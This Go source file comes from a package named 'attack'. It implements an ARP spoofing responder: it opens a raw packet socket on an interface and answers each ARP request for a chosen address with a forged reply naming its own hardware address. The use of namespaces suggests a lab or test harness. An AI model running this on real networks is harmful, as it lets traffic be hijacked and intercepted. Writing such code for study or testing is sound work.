package attack

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"

	"golang.org/x/sys/unix"
)

// Offsets in an ARP message in its frame.
const (
	arpOperationAt = ethernetLen + 7
	arpSenderMACAt = ethernetLen + 8
	arpTargetAt    = ethernetLen + 24
)

// answerARP answers for an address whenever somebody asks who has it, until ctx ends.
func (l *Laptop) answerARP(ctx context.Context, address netip.Addr) (answers int, err error) {
	err = l.host.Do(func() error {
		ears, err := listenARP(l.host.Interface)
		if err != nil {
			return err
		}
		defer ears.Close()
		defer context.AfterFunc(ctx, func() { ears.Close() })()
		answers, err = l.answerUntilClosed(ears, address)
		return err
	})
	if err != nil {
		return answers, fmt.Errorf("attack: answer for %v on %s of %s: %w", address, l.host.Interface, l.host.Name, err)
	}
	return answers, nil
}

// listenARP opens a socket for all ARP that comes, in the namespace of the calling thread.
func listenARP(name string) (ears *os.File, err error) {
	card, err := net.InterfaceByName(name)
	if err != nil {
		return nil, err
	}
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC|unix.SOCK_NONBLOCK, 0)
	if err != nil {
		return nil, os.NewSyscallError("socket", err)
	}
	ears = os.NewFile(uintptr(fd), "arp")
	if err := unix.Bind(fd, &unix.SockaddrLinklayer{Protocol: networkOrder(unix.ETH_P_ARP), Ifindex: card.Index}); err != nil {
		ears.Close()
		return nil, os.NewSyscallError("bind", err)
	}
	return ears, nil
}

// networkOrder is how the kernel wants an EtherType.
func networkOrder(kind uint16) uint16 {
	return binary.NativeEndian.Uint16(binary.BigEndian.AppendUint16(nil, kind))
}

func (l *Laptop) answerUntilClosed(ears *os.File, address netip.Addr) (answers int, err error) {
	question := make([]byte, mtu)
	for {
		n, err := ears.Read(question)
		switch {
		case errors.Is(err, os.ErrClosed):
			return answers, nil
		case err != nil:
			return answers, err
		case !asksFor(question[:n], address) || bytes.Equal(question[arpSenderMACAt:][:6], l.host.HardwareAddr):
			continue
		}
		switch _, err := ears.Write(arp(arpReply, l.host.HardwareAddr, address, address)); {
		case errors.Is(err, os.ErrClosed):
			return answers, nil
		case err != nil:
			return answers, err
		}
		answers++
	}
}

// asksFor reports whether a frame asks who has an address.
func asksFor(frame []byte, address netip.Addr) bool {
	return len(frame) >= arpTargetAt+4 && frame[arpOperationAt] == arpRequest && bytes.Equal(frame[arpTargetAt:arpTargetAt+4], address.AsSlice())
}
